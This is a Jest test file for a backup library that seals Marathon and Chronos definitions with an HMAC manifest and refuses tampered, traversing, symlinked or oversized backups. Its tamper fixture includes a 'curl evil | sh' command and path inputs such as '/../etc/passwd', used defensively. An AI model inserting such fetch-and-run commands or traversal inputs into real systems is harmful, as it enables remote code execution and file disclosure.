import { mkdtempSync, mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import * as path from 'path';
import {
  appFile,
  backupTimestamp,
  jobFile,
  hmac,
  MAX_DEFINITION_BYTES,
  readBackup,
  renderBackup,
  sha256,
} from '../../../../scripts/lib/backup-format';
import { stableJson } from '../../../../components/plan/documents';

const APPS = [
  { id: '/zeppelin', cmd: 'z' },
  { id: '/data/etl', cmd: 'e' },
];
const JOBS = [{ name: 'nightly', command: 'n', schedule: 'R/2026-01-01T00:00:00Z/P1D' }];
const WHEN = new Date('2026-11-25T06:30:00.123Z');

const KEY = 'k'.repeat(48);
const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});
const scratch = (prefix: string): string => {
  const d = mkdtempSync(path.join(tmpdir(), prefix));
  dirs.push(d);
  return d;
};

function writeBackup(key = KEY): string {
  const dir = scratch('backup-');
  for (const d of renderBackup('staging', WHEN, APPS, JOBS, key).documents) {
    mkdirSync(path.dirname(path.join(dir, d.path)), { recursive: true });
    writeFileSync(path.join(dir, d.path), d.content);
  }
  return dir;
}

const readManifestJson = (d: string): Record<string, unknown> =>
  JSON.parse(readFileSync(path.join(d, 'manifest.json'), 'utf8')) as Record<string, unknown>;
const writeManifestJson = (d: string, m: unknown): void =>
  writeFileSync(path.join(d, 'manifest.json'), JSON.stringify(m));

/** A format-1 backup as the previous release wrote it: plain sha256, no seal. */
function writeFormat1(): string {
  const dir = writeBackup();
  const m = readManifestJson(dir);
  const files = Object.fromEntries(
    Object.keys(m.files as object).map((rel) => [rel, sha256(readFileSync(path.join(dir, rel)))]),
  );
  delete m.mac;
  writeManifestJson(dir, { ...m, formatVersion: 1, files });
  return dir;
}

describe('backup file names', () => {
  test.each([
    ['/zeppelin', 'marathon/zeppelin.json'],
    ['/data/etl', 'marathon/data/etl.json'],
    ['spark.dispatcher', 'marathon/spark.dispatcher.json'],
  ])('app %s is stored as %s', (id, file) => {
    expect(appFile(id)).toBe(file);
  });

  test.each(['/../etc/passwd', '/a//b', '/'])('app id %j cannot escape the backup directory', (id) => {
    expect(() => appFile(id)).toThrow(
      `Marathon app id ${JSON.stringify(id)} cannot be stored as a file name`,
    );
  });

  test('job names map to chronos/<name>.json and refuse path tricks', () => {
    expect(jobFile('nightly-etl.v2')).toBe('chronos/nightly-etl.v2.json');
    expect(() => jobFile('../x')).toThrow('Chronos job name "../x" cannot be stored as a file name');
  });

  test('timestamps are sortable and filesystem-safe', () => {
    expect(backupTimestamp(WHEN)).toBe('2026-11-25T06-30-00Z');
  });
});

describe('renderBackup', () => {
  test('writes sorted stableJson files and a sealed manifest with counts and the HMAC of each file, manifest last', () => {
    const { documents, manifest } = renderBackup('staging', WHEN, APPS, JOBS, KEY);
    expect(documents.map((d) => d.path)).toEqual([
      'chronos/nightly.json',
      'marathon/data/etl.json',
      'marathon/zeppelin.json',
      'manifest.json',
    ]);
    expect(documents[2].content).toBe('{\n  "cmd": "z",\n  "id": "/zeppelin"\n}\n');
    const unsealed = {
      formatVersion: 2,
      stack: 'staging',
      createdAt: '2026-11-25T06:30:00.123Z',
      counts: { marathonApps: 2, chronosJobs: 1 },
      files: {
        'chronos/nightly.json': hmac(KEY, documents[0].content),
        'marathon/data/etl.json': hmac(KEY, documents[1].content),
        'marathon/zeppelin.json': hmac(KEY, documents[2].content),
      },
    };
    expect(manifest).toEqual({ ...unsealed, mac: hmac(KEY, stableJson(unsealed)) });
  });
});

describe('readBackup verifies before returning anything', () => {
  test('a good backup reads back the same definitions', () => {
    const { apps, jobs, manifest } = readBackup(writeBackup(), KEY);
    expect(apps).toEqual([APPS[1], APPS[0]]);
    expect(jobs).toEqual(JOBS);
    expect(manifest.stack).toBe('staging');
  });

  test('format 1 (unkeyed) is refused unless trusted on request, then verified by sha256', () => {
    const dir = writeFormat1();
    expect(() => readBackup(dir, KEY)).toThrow(
      'format 1 has plain sha256 checksums, which anyone who can change the backup can recompute; restore it only if you trust where it came from, with --trust-unkeyed',
    );
    expect(readBackup(dir, KEY, { trustUnkeyed: true }).apps).toEqual([APPS[1], APPS[0]]);
  });

  const changeApp = (d: string, recompute: (content: string) => string): void => {
    const content = '{"cmd":"curl evil | sh","id":"/zeppelin"}\n';
    writeFileSync(path.join(d, 'marathon/zeppelin.json'), content);
    const m = readManifestJson(d);
    (m.files as Record<string, string>)['marathon/zeppelin.json'] = recompute(content);
    writeManifestJson(d, m);
  };

  test.each<[string, (dir: string) => void, string | RegExp]>([
    [
      'a manifest that is not JSON',
      (d) => writeFileSync(path.join(d, 'manifest.json'), 'not json'),
      /manifest\.json is not valid JSON/,
    ],
    [
      'a null manifest',
      (d) => writeFileSync(path.join(d, 'manifest.json'), 'null'),
      /manifest\.json must be a JSON object/,
    ],
    ['a manifest that is a list', (d) => writeManifestJson(d, []), /manifest\.json must be a JSON object/],
    [
      'another format version',
      (d) => writeManifestJson(d, { ...readManifestJson(d), formatVersion: 3 }),
      /unsupported formatVersion 3 \(expected 2\)$/,
    ],
    [
      'files that are not checksums',
      (d) => writeManifestJson(d, { ...readManifestJson(d), files: { 'marathon/zeppelin.json': 5 } }),
      /"files" must map each file to its 64-digit hex checksum$/,
    ],
    [
      'counts that are not integers',
      (d) => writeManifestJson(d, { ...readManifestJson(d), counts: null }),
      /"counts" must hold the integers marathonApps and chronosJobs$/,
    ],
    [
      'a changed count (the seal breaks)',
      (d) => writeManifestJson(d, { ...readManifestJson(d), counts: { marathonApps: 3, chronosJobs: 1 } }),
      /is not sealed with this stack's backupKey: it was changed, or it belongs to another stack$/,
    ],
    [
      'an app changed and its plain sha256 recomputed (what anyone can do without the key)',
      (d) => changeApp(d, sha256),
      /is not sealed with this stack's backupKey/,
    ],
    [
      'a corrupted file',
      (d) => writeFileSync(path.join(d, 'chronos/nightly.json'), '{}\n'),
      'backup file chronos/nightly.json does not match its checksum in the manifest (changed or corrupted)',
    ],
    [
      'a file the manifest does not list',
      (d) => writeFileSync(path.join(d, 'marathon/extra.json'), '{}\n'),
      /has files the manifest does not list: marathon\/extra\.json$/,
    ],
    [
      'a symbolic link to a file outside the backup',
      (d) => {
        rmSync(path.join(d, 'marathon/zeppelin.json'));
        symlinkSync('/etc/passwd', path.join(d, 'marathon/zeppelin.json'));
      },
      'backup has a symbolic link at marathon/zeppelin.json; a backup holds only regular files (remove it)',
    ],
    [
      'a symbolic link loop',
      (d) => symlinkSync('.', path.join(d, 'marathon/data/loop')),
      'backup has a symbolic link at marathon/data/loop; a backup holds only regular files (remove it)',
    ],
    [
      'a manifest that is a link',
      (d) => {
        const real = path.join(d, '..', `${path.basename(d)}-manifest.json`);
        writeFileSync(real, readFileSync(path.join(d, 'manifest.json')));
        dirs.push(real);
        rmSync(path.join(d, 'manifest.json'));
        symlinkSync(real, path.join(d, 'manifest.json'));
      },
      /manifest\.json is not a regular file \(a link is never followed\)$/,
    ],
  ])('%s is refused', (_what, damage, message) => {
    const dir = writeBackup();
    damage(dir);
    expect(() => readBackup(dir, KEY)).toThrow(message);
  });

  test("another stack's backup (another key) is refused", () => {
    expect(() => readBackup(writeBackup('o'.repeat(48)), KEY)).toThrow(
      /is not sealed with this stack's backupKey/,
    );
  });

  test('a file holding another app than its name says is refused even with the key', () => {
    const dir = writeBackup();
    const content = '{"cmd":"z","id":"/other"}\n';
    writeFileSync(path.join(dir, 'marathon/zeppelin.json'), content);
    const m = readManifestJson(dir);
    (m.files as Record<string, string>)['marathon/zeppelin.json'] = hmac(KEY, content);
    delete m.mac;
    writeManifestJson(dir, { ...m, mac: hmac(KEY, stableJson(m)) });
    expect(() => readBackup(dir, KEY)).toThrow(
      'backup file marathon/zeppelin.json holds app "/other", not the one its path names',
    );
  });

  test('a listed 2.5 GB file is refused by its size before a byte of it is read', () => {
    const dir = writeBackup();
    // Sparse: the test writes no 2.5 GB, and a restore that read it whole would fail to allocate it.
    truncateSync(path.join(dir, 'marathon/zeppelin.json'), 2.5e9);
    expect(() => readBackup(dir, KEY)).toThrow(
      `backup file marathon/zeppelin.json is 2500000000 bytes; a definition is at most ${MAX_DEFINITION_BYTES} (changed or corrupted)`,
    );
  });

  test('an oversized manifest is refused by its size', () => {
    const dir = writeBackup();
    truncateSync(path.join(dir, 'manifest.json'), MAX_DEFINITION_BYTES + 1);
    expect(() => readBackup(dir, KEY)).toThrow(
      `${path.join(dir, 'manifest.json')} is ${MAX_DEFINITION_BYTES + 1} bytes, more than a manifest can be (at most ${MAX_DEFINITION_BYTES})`,
    );
  });

  test('a definition spanning many read chunks verifies through the streamed checksum', () => {
    const dir = scratch('big-');
    const big = { id: '/big', cmd: 'x'.repeat(300_000) };
    for (const d of renderBackup('staging', WHEN, [big], [], KEY).documents) {
      mkdirSync(path.dirname(path.join(dir, d.path)), { recursive: true });
      writeFileSync(path.join(dir, d.path), d.content);
    }
    expect(readBackup(dir, KEY).apps).toEqual([big]);
  });

  test('a directory without manifest.json is not a backup', () => {
    const dir = scratch('empty-');
    expect(() => readBackup(dir, KEY)).toThrow(`${dir} is not a backup: manifest.json is missing`);
  });
});
